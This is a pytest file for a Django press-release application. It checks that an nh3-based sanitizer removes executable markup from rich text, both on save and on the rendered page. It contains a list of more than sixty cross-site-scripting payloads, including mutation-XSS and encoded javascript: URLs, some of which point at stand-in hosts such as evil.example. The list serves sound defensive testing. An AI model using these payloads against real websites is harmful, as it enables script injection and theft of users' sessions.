"""Rich text is cleaned with nh3 on save: nothing executable survives, the editor's markup does."""

from html.parser import HTMLParser

import pytest
from django.test import Client

from releases.models import PressRelease
from releases.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, sanitize_html

from .helpers import ADD_URL as ADMIN_ADD_URL
from .helpers import InlineCode, release_form

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="/media/a.png" onload="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<a href="javascript:alert(1)">Link</a>',
    '<a href="JaVaScRiPt:alert(1)">Link</a>',
    '<a href="  javascript:alert(1)">Link</a>',
    '<a href="java&#x09;script:alert(1)">Link</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">Link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Link</a>',
    '<a href="vbscript:msgbox(1)">Link</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<p style="background:url(javascript:alert(1))">Text</p>',
    '<p style="behavior:url(x.htc)">Text</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name="q"><button>Los</button></form>',
    '<body onload="alert(1)">',
    '<div onmouseover="alert(1)">Hover</div>',
    '<p onclick="alert(1)">Klick</p>',
    '<details open ontoggle="alert(1)">',
    '<video><source onerror="alert(1)"></video>',
    '<audio src=x onerror="alert(1)">',
    '<input autofocus onfocus="alert(1)">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="https://example.org" onclick="alert(1)">ok</a>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<img src="https://tracker.example/pixel.gif" alt="Tracker">',
    '<img src="//tracker.example/pixel.gif">',
    "<template><img src=x onerror=alert(1)></template>",
    '<a href="#" xlink:href="javascript:alert(1)">x</a>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    # Mutation XSS: markup that a second parse turns into something else.
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<<script>script>alert(1)<</script>/script>",
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    # Encoded variants of javascript: URLs.
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # Dangerous attributes on tags that are allowed.
    '<img src="/media/a.png" srcset="javascript:alert(1)">',
    '<blockquote cite="javascript:alert(1)">Zitat</blockquote>',
    "<h2 onmouseover=alert(1)>Titel</h2>",
    '<a href="https://example.org"\nonclick=alert(1)>x</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    '<style>*{background:url("javascript:alert(1)")}</style>',
]

URL_ATTRIBUTES = {"href", "src"}
SAFE_SCHEMES = ("http://", "https://", "mailto:", "tel:", "/", "#")


class TagCollector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))


def parsed(html):
    collector = TagCollector()
    collector.feed(html)
    return collector.found


def assert_harmless(html):
    for tag, attrs in parsed(html):
        assert tag in ALLOWED_TAGS, f"tag <{tag}> survived in {html!r}"
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel", "class"}, (
                f"attribute {name} on <{tag}> survived in {html!r}"
            )
            if name in URL_ATTRIBUTES:
                assert value.strip().lower().startswith(SAFE_SCHEMES), value
            if tag == "img" and name == "src":
                assert value.startswith("/media/"), f"image from elsewhere: {value}"


def test_there_are_at_least_fifty_payloads():
    assert len(XSS_PAYLOADS) >= 50


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_does_not_survive(payload):
    cleaned = sanitize_html(f"<p>Vorher</p>{payload}<p>Nachher</p>")
    assert_harmless(cleaned)
    assert "<script" not in cleaned.lower()
    assert "javascript:" not in cleaned.lower()


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_saved_through_the_model_is_cleaned(make_release, payload):
    release = make_release(body=payload)
    release.refresh_from_db()
    assert_harmless(release.body)


def test_what_the_editor_produces_survives():
    html = (
        "<h2>Zwischenüberschrift</h2><h3>Unterpunkt</h3>"
        "<p><strong>fett</strong> <i>kursiv</i> "
        '<a href="https://www.example.org/seite">Link</a> '
        '<a href="mailto:presse@example.org">Mail</a> <a href="tel:+495311218154">Telefon</a></p>'
        "<ul><li>eins</li></ul><ol><li>zwei</li></ol><blockquote><p>Zitat</p></blockquote>"
        '<figure class="image"><img src="/media/editor/bild.png" alt="Ein Bild"></figure>'
        '<figure class="table"><table><thead><tr><th>A</th></tr></thead>'
        "<tbody><tr><td>1</td></tr></tbody></table></figure>"
    )
    cleaned = sanitize_html(html)
    for fragment in [
        "<h2>Zwischenüberschrift</h2>",
        "<h3>Unterpunkt</h3>",
        "<strong>fett</strong>",
        "<i>kursiv</i>",
        'href="https://www.example.org/seite"',
        'href="mailto:presse@example.org"',
        'href="tel:+495311218154"',
        "<ul><li>eins</li></ul>",
        "<ol><li>zwei</li></ol>",
        "<blockquote>",
        '<figure class="image"><img src="/media/editor/bild.png" alt="Ein Bild"></figure>',
        "<th>A</th>",
    ]:
        assert fragment in cleaned


def test_links_get_noopener():
    assert 'rel="noopener noreferrer"' in sanitize_html('<a href="https://example.org">x</a>')


def test_only_the_body_is_marked_safe_on_the_page(client, make_release):
    release = make_release(
        title="<script>alert('titel')</script>",
        subtitle="<b>fett?</b>",
        lead="<img src=x onerror=alert(1)>",
        body="<p><strong>erlaubt</strong></p>",
    )
    html = client.get(release.get_absolute_url()).content.decode()
    assert "<script>alert('titel')" not in html
    assert "&lt;script&gt;alert(&#x27;titel&#x27;)&lt;/script&gt;" in html
    assert "&lt;b&gt;fett?&lt;/b&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "<p><strong>erlaubt</strong></p>" in html


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_posted_through_the_admin_form_leaves_nothing_executable_on_the_page(
    staff_client, topic, payload
):
    data = release_form(
        topic,
        body=f"<p>Vorher</p>{payload}<p>Nachher</p>",
        lead=payload,
        release_date="01.03.2022",
        publish_at_0="01.03.2022",
        **{"images-0-caption": payload[:500], "attachments-TOTAL_FORMS": "0"},
    )
    response = staff_client.post(ADMIN_ADD_URL, data)
    assert response.status_code == 302, response.content.decode()[:2000]
    release = PressRelease.objects.get()
    assert_harmless(release.body)

    page = Client().get(release.get_absolute_url())
    assert page.status_code == 200
    parser = InlineCode()
    parser.feed(page.content.decode())
    assert parser.found == []
